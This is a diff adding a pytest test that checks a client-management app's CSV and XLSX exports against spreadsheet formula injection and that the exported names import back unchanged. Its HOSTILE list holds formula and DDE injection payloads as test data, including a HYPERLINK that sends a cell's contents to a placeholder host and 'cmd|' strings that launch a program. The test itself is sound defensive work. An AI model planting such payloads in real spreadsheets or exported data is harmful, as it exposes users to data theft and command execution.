@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import time
+from datetime import date
 
 import pytest
 from client_support import INN_A, INN_B, audit_count, company, make_team, row_counts
@@ -14,9 +15,12 @@ from sqlalchemy import func, select
 from qstui.db.models import AuditEntry, Company, Email, Phone, SearchWord
 from qstui.domain.clients import ClientFilter, ImportAction
 from qstui.domain.errors import AccessDenied, ValidationFailed
+from qstui.domain.formulas import TRIGGERS
 from qstui.services.clients import companies as C
 from qstui.services.clients.export import export_clients
 from qstui.services.clients.importing import import_clients, parse
+from qstui.services.deals import create_deal
+from qstui.services.deals.payments import add_payment
 
 
 def inn10(seed: int) -> str:
@@ -231,3 +235,56 @@ def test_export_csv_and_xlsx_read_back_and_need_the_export_right(db, tmp_path):
     assert values[1][0] == a and values[1][1] == "Альфа" and values[1][6] == "Тула"
     with pytest.raises(ValidationFailed):
         export_clients(team.head, tmp_path / "clients.txt")
+
+
+HOSTILE = (
+    '=HYPERLINK("http://x/?d="&B3,"Open")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=1+2",  # quoted by somebody already: read back with its quote
+    "#N/A",  # an error value to openpyxl, a name to us
+)
+
+
+def test_exported_text_never_becomes_a_formula_and_reads_back_the_same(db, tmp_path, clock_at):
+    today = clock_at(date(2026, 11, 25)).date()
+    team = make_team(db)
+    for n, name in enumerate(HOSTILE):
+        company(team.ivanov, name, full_name=f"{name} №{n}", city="=1+1", phone="+7 495 111-22-33")
+    plain = company(team.ivanov, "Обычная", full_name="Обычная")
+    advance = create_deal(team.ivanov, plain, "Аванс")
+    add_payment(team.ivanov, advance, "actual", today, "100.00")  # a debt of −100.00
+
+    target = tmp_path / "clients.csv"
+    assert export_clients(team.head, target) == len(HOSTILE) + 1
+    raw = target.read_bytes()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))[1:]
+    written = {r[1]: r for r in rows}
+    for name in HOSTILE:
+        quoted = written["'" + name] if name[0] in TRIGGERS or name[0] == "'" else written[name]
+        assert quoted[6] == "'=1+1"  # the city
+        assert quoted[7] == "+7 495 111-22-33"  # a phone stays readable: no formula in it
+    for row in rows:
+        assert not any(cell.startswith(("=", "@")) for cell in row), row
+    assert written["Обычная"][12] == "-100.00"  # a number stays a number
+    # the import takes the quotes off: the same names, nothing to change
+    assert [line["name"] for _n, line in parse(raw).lines] == [*HOSTILE, "Обычная"]
+    report = import_clients(team.head, raw)
+    assert report.unchanged == len(HOSTILE) + 1 and not report.rejected
+
+    book = tmp_path / "clients.xlsx"
+    assert export_clients(team.head, book) == len(HOSTILE) + 1
+    sheet = load_workbook(book).active
+    cells = {row[1].value: row for row in sheet.iter_rows(min_row=2)}
+    assert set(cells) == {*HOSTILE, "Обычная"}  # exactly the names, no quote added
+    for name in HOSTILE:
+        row = cells[name]
+        assert [(c.value, c.data_type) for c in (row[1], row[2], row[6])] == [
+            (name, "s"),
+            (f"{name} №{HOSTILE.index(name)}", "s"),
+            ("=1+1", "s"),
+        ]
+    debt = cells["Обычная"][12]
+    assert (debt.value, debt.data_type) == (-100, "n")
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
